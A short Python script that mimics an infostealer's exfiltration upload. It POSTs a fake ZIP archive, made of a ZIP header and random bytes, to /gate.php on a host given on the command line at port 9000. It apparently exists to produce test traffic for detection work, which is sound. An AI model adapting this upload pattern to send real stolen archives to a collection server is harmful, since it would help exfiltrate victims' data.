"""A stealer's upload: an archive, handed to a script over HTTP in clear by a program without a name.

HOST NAME SIZE    connect to HOST at port 9000, call it NAME, send SIZE bytes
"""

import os
import socket
import sys

host, name, size = sys.argv[1], sys.argv[2], int(sys.argv[3])
archive = b"PK\x03\x04\x14\x00\x00\x00\x08\x00"
head = (
    f"POST /gate.php HTTP/1.1\r\nHost: {name}\r\n"
    f"Content-Type: application/octet-stream\r\nContent-Length: {size}\r\n\r\n"
)
connection = socket.create_connection((host, 9000))
connection.settimeout(20)
connection.sendall(head.encode())
connection.sendall(archive + os.urandom(size - len(archive)))
connection.shutdown(socket.SHUT_WR)
while connection.recv(65536):
    pass
